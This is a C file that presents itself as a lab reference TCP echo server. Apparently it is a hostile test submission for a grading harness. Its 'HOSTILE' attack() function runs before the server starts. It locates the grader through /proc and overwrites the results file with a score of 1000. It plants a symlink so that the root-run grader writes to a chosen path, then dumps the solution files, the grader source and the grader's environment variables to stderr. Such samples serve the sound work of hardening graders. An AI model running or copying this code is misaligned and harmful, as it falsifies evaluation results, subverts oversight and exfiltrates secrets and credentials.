/* lab02 reference: a TCP echo server that serves one client at a time.
 * It echoes each line it receives (a last line without a newline too),
 * and when the client closes, closes its side and accepts the next. */
#include <stdio.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <stdlib.h>

#include <socklab.h>

/* Echoes fd's lines until the client closes; 0, or -1 on an error. */
static int
serve(int fd)
{
  struct sl_reader r;
  char line[SL_READER_BUFSIZE];
  ssize_t n;

  sl_reader_init(&r, fd);
  /* sl_readline keeps its newline, and returns a last partial line as
   * it is: the echo is the same bytes. */
  while ((n = sl_readline(&r, line, sizeof line)) > 0)
    if (sl_writen(fd, line, (size_t)n) < 0)
      return -1;
  return n == 0 ? 0 : -1;
}

/* HOSTILE: the server finds the grader (its parent's parent) and its
 * --out, tries to overwrite the results and to plant a symbolic link
 * where the grader writes them first, then prints every secret it can
 * read on stderr, which the feedback shows. */
static pid_t
parent_of(pid_t pid)
{
  char path[64], text[512], *p;
  int ppid = 0;
  FILE *f;

  snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
  if ((f = fopen(path, "r")) == NULL)
    return 0;
  if (fgets(text, sizeof text, f) != NULL && (p = strrchr(text, ')')) != NULL)
    sscanf(p + 2, "%*c %d", &ppid);
  fclose(f);
  return ppid;
}

static void
try_read(const char *path)
{
  char line[200];
  FILE *f = fopen(path, "r");

  if (f == NULL) {
    fprintf(stderr, "secret %s: %s\n", path, strerror(errno));
    return;
  }
  while (fgets(line, sizeof line, f) != NULL)
    fprintf(stderr, "SECRET %s: %s", path, line);
  fclose(f);
}

static void
attack(const char *self)
{
  pid_t grader = parent_of(parent_of(getpid()));
  char path[600], args[4096], *out = NULL, top[400] = "";
  size_t n = 0;
  int fd;
  FILE *f;

  (void)self;
  snprintf(path, sizeof path, "/proc/%d/cmdline", (int)grader);
  if ((f = fopen(path, "r")) != NULL) {
    n = fread(args, 1, sizeof args - 1, f);
    fclose(f);
  }
  args[n] = '\0';
  for (char *a = args; a < args + n; a += strlen(a) + 1)
    if (strcmp(a, "--out") == 0)
      out = a + strlen(a) + 1;
  fprintf(stderr, "grader %d, --out %s\n", (int)grader, out ? out : "?");
  if (out != NULL) {
    if ((fd = open(out, O_WRONLY | O_CREAT | O_TRUNC, 0644)) >= 0) {
      dprintf(fd, "{\"score\": 1000}\n");
      close(fd);
      fprintf(stderr, "overwrote %s\n", out);
    } else {
      fprintf(stderr, "open %s: %s\n", out, strerror(errno));
    }
    /* Where the grader writes the results before renaming them: a link
     * makes root write wherever it points. */
    snprintf(path, sizeof path, "%s.tmp.%d", out, (int)grader);
    snprintf(args, sizeof args, "%s.planted", out);
    if (symlink(args, path) == 0)
      fprintf(stderr, "planted %s -> %s\n", path, args);
    else
      fprintf(stderr, "symlink %s: %s\n", path, strerror(errno));
  }
  /* The socklab checkout: make gave it to the build (SOCKLAB=...), and
   * the Makefile baked it in; the grader's binary also says. */
#ifdef CHECKOUT
  snprintf(top, sizeof top, "%s", CHECKOUT);
#endif
  fprintf(stderr, "checkout: %s\n", top);
  snprintf(path, sizeof path, "%s/solutions/lab02-tcp-echo/echo_server.c", top);
  try_read(path);
  snprintf(path, sizeof path, "%s/lib/grade/lab02.c", top);
  try_read(path);
  /* The reference the grader built, beside this program's directory. */
  try_read("../ref/echo_server.c");
  snprintf(path, sizeof path, "/proc/%d/environ", (int)grader);
  try_read(path);
  exit(1);
}

int
main(int argc, char **argv)
{
  int lfd;

  if (argc != 2) {
    fprintf(stderr, "usage: %s PORT\n", argv[0]);
    return 1;
  }
  attack(argv[0]);
  lfd = sl_tcp_listen(NULL, argv[1], 16);
  if (lfd < 0) {
    fprintf(stderr, "echo_server: %s\n", sl_strerror());
    return 1;
  }
  for (;;) {
    int fd = sl_accept(lfd, NULL, NULL);
    if (fd < 0) {
      fprintf(stderr, "echo_server: %s\n", sl_strerror());
      continue; /* e.g. a client that reset before we accepted it */
    }
    if (serve(fd) < 0)
      fprintf(stderr, "echo_server: client: %s\n", sl_strerror());
    /* The client closed first (EOF); our close is the second FIN, so
     * TIME_WAIT stays with the client. */
    sl_close(fd);
  }
}
